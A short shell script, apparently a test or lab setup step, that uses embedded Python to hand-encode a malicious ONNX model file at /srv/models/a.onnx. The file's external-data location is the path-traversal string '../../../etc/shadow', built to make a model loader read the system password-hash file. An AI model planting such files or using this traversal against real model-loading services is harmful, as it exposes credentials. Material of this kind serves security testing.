#!/bin/sh
# An ONNX model whose data lie elsewhere, with the place written before what it is.
# host: services
mkdir -p /srv/models
python3 - <<'EOF'
def field(number, body):
    return bytes([number << 3 | 2, len(body)]) + body
entry = field(13, field(2, b"../../../etc/shadow") + field(1, b"location"))
open("/srv/models/a.onnx", "wb").write(b"\x08\x08" + field(7, field(5, entry)))
EOF
